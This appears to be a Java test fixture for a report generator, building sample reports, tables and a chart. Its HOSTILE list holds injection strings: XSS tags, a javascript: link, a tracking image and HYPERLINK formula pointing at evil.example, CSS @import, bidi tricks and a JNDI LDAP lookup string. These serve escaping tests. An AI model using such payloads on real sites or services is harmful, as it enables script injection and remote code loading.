package dev.blastradius.report.form;

import dev.blastradius.chart.ChartTheme;
import dev.blastradius.chart.Ink;
import dev.blastradius.report.document.Block;
import dev.blastradius.report.document.Document;
import dev.blastradius.report.document.Illustration;
import dev.blastradius.report.document.Section;
import dev.blastradius.report.document.Table;
import dev.blastradius.report.document.Words;
import dev.blastradius.report.picture.PictureFont;
import java.awt.BasicStroke;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.geom.Line2D;
import java.awt.geom.Path2D;
import java.awt.geom.Rectangle2D;
import java.util.ArrayList;
import java.util.List;

/** Reports to write in tests. */
final class Samples {

    /** Names as a model file may have them, and as no form may take them for anything but text. */
    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</style><b>bold</b>",
            "\"><svg onload=alert(1)>",
            "&lt;already&gt; &amp; escaped",
            "[click](javascript:alert(1))",
            "![pixel](https://evil.example/p.png)",
            "# heading",
            "1. item",
            "- item",
            "> quote",
            "a | b | c",
            "```\nfence\n```",
            "`code`",
            "*star* _under_ ~~strike~~ **two**",
            "https://evil.example/ www.evil.example a@evil.example",
            "$x^2$ :tada: @someone",
            "<a id=\"summary\"></a>",
            "=HYPERLINK(\"https://evil.example\")",
            "]]> <![CDATA[ x ]]> <!-- c --> <?php ?>",
            "url(https://evil.example) {} ; } @import 'x'",
            "line one\nline two\ttab\r\nline three",
            "nul \u0000 bell \u0007 escape \u001b[31m delete \u007f",
            "\u202Eturned\u202C \u2066isolated\u2069",
            "half \uD83D and half \uDE00",
            "测试 提供者 模型",
            "テスト・プロバイダー",
            "مزود الاختبار",
            "ספק בדיקה",
            "👩‍🚀 🚀 ✅",
            "Ünïcödé – naïve — “quoted” … ≤ ≥ ± × → ← − ² ∞",
            "Averyveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryveryverylongname",
            "{{template}} ${jndi:ldap://evil.example/a} %s %n \\n \\");

    private Samples() {}

    /** A report with nothing but what a form must be able to hold. */
    static Document small() {
        return new Document(
                "Support assistant",
                "Strategies compared: 2",
                List.of(
                        new Section(
                                "summary",
                                "Summary",
                                List.of(
                                        Block.paragraph("Retries with a budget keep 93.1 % of the requests."),
                                        figure(
                                                "The share of good answers falls from 99 % to 12 % and is back after 4 min."))),
                        new Section(
                                "again",
                                "How to run it again",
                                List.of(new Block.Listing("blastradius compare a.json")))));
    }

    /** A report with everything, hostile names in every place that can hold a name. */
    static Document hostile() {
        List<Section> chapters = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            chapters.add(hostileChapter(HOSTILE.get(i), i + 1));
        }
        return new Document(HOSTILE.get(0), HOSTILE.get(1), chapters);
    }

    private static Section hostileChapter(String name, int number) {
        Words words = Words.of(name).strong(name).code(name).link(name, "name-" + number);
        Table table = new Table(
                name,
                List.of(new Table.Column(name, false), new Table.Column(name, true)),
                List.of(new Table.Row(
                        List.of(new Table.Cell(words, Table.Tone.BEST, Double.NaN), Table.Cell.heated(name, 0.7)))),
                words);
        List<Block> blocks = List.of(
                new Block.Paragraph(words),
                new Block.Items(false, List.of(words, Words.of(name))),
                new Block.Items(true, List.of(words)),
                new Block.Facts(List.of(new Block.Fact(name, words))),
                new Block.Notice(words),
                new Block.Listing(name),
                new Block.Figure(new Chart(name), name, words),
                new Block.Tabular(table));
        return new Section("name-" + number, name, blocks)
                .with(List.of(new Section("part-" + number, name, List.of(Block.paragraph(name)))));
    }

    /** A report such as a comparison of many runs with many components gives. */
    static Document large(int chapters, int rows) {
        List<Section> all = new ArrayList<>();
        for (int i = 1; i <= chapters; i++) {
            all.add(new Section(
                    "run-" + i,
                    "What happened in run " + i,
                    List.of(
                            Block.paragraph("In this run 12.4 % of the requests were lost, most of them in a minute."),
                            figure("Goodput falls to 4 a second, and is back after 3 min 10 s."),
                            figure("Attempts rise to 2.4 times the requests."),
                            table(rows, 8))));
        }
        return new Document("A large pipeline", "Strategies compared: " + chapters, all);
    }

    /** A table of made-up numbers. */
    static Block table(int rows, int columns) {
        List<Table.Column> heads = new ArrayList<>();
        heads.add(new Table.Column("Part", false));
        for (int i = 1; i < columns; i++) {
            heads.add(new Table.Column("Measure " + i + ", %", true));
        }
        List<Table.Row> body = new ArrayList<>();
        for (int row = 0; row < rows; row++) {
            List<Table.Cell> cells = new ArrayList<>();
            cells.add(Table.Cell.of("Component " + (row + 1)));
            for (int i = 1; i < columns; i++) {
                int value = (row * 37 + i * 11) % 100;
                cells.add(
                        i == 2
                                ? Table.Cell.heated(value + ".4 %", value / 100.0)
                                : Table.Cell.of(value + "." + (row * i) % 10 + " ±0." + (i + row) % 10));
            }
            body.add(new Table.Row(cells));
        }
        return new Block.Tabular(new Table(
                "What each part lost, in per cent of its requests",
                heads,
                body,
                Words.of("The number after ± is half of the 95 % interval over 20 replications.")));
    }

    /** A picture. */
    static Block figure(String alternative) {
        return new Block.Figure(
                new Chart("Good answers a second"),
                alternative,
                Words.of("Good answers a second, with the fault shaded."));
    }

    /** A line over a shaded window, with a title and a colour between two of the theme's. */
    record Chart(String title) implements Illustration {

        @Override
        public double width() {
            return 720;
        }

        @Override
        public double height() {
            return 260;
        }

        @Override
        public void paint(Graphics2D graphics, ChartTheme theme) {
            graphics.setPaint(theme.background());
            graphics.fill(new Rectangle2D.Double(0, 0, width(), height()));
            graphics.setPaint(between(theme.background(), theme.fault(), 0.12));
            graphics.fill(new Rectangle2D.Double(200, 40, 160, 190));
            graphics.setPaint(theme.text());
            graphics.setFont(PictureFont.bold(14, title));
            graphics.drawString(title, 12, 22);
            graphics.setFont(PictureFont.plain(12, "0123"));
            for (int i = 0; i <= 4; i++) {
                graphics.setPaint(theme.grid());
                graphics.draw(new Line2D.Double(50, 230 - 45 * i, 708, 230 - 45 * i));
                graphics.setPaint(theme.muted());
                graphics.drawString(String.valueOf(25 * i), 20, 234 - 45 * i);
            }
            Path2D line = new Path2D.Double();
            line.moveTo(50, 60);
            for (int x = 60; x <= 700; x += 10) {
                line.lineTo(x, x < 200 ? 60 + x % 7 : x < 360 ? 200 - x % 13 : 200 - Math.min(140, (x - 360) / 2.0));
            }
            graphics.setStroke(new BasicStroke(2));
            graphics.setPaint(theme.color(Ink.GOODPUT));
            graphics.draw(line);
        }

        private static Color between(Color one, Color other, double part) {
            return new Color(
                    (int) Math.round(one.getRed() + part * (other.getRed() - one.getRed())),
                    (int) Math.round(one.getGreen() + part * (other.getGreen() - one.getGreen())),
                    (int) Math.round(one.getBlue() + part * (other.getBlue() - one.getBlue())));
        }
    }
}
